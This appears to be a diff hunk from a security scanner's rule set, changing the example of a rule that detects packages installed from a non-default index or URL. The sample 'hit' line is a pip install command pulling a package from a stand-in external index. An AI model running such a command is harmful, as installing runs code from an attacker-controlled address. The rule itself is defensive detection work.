@@ -1221,7 +1221,7 @@ _EXECUTION = (
         r"(?:[\"']?\S*(?:https?://|git\+)|--(?:extra-)?index-url|--registry|--trusted-host)|\b(?:npx|uvx|bunx)\s+(?:-\S+\s+){0,3}(?:https?://|git\+)",
         what="a package installed from an address instead of the usual index",
         why="installing runs the package's code, and the address is the attacker's",
-        hit="pip install --extra-index-url https://pkgs.example.net/simple helper",
+        hit="pip install --extra-index-url https://pkgs.example.net/wheels helper",
         miss="pip install --upgrade requests",
         owasp="LLM04:2026, ASI04, ASI05",
     ),
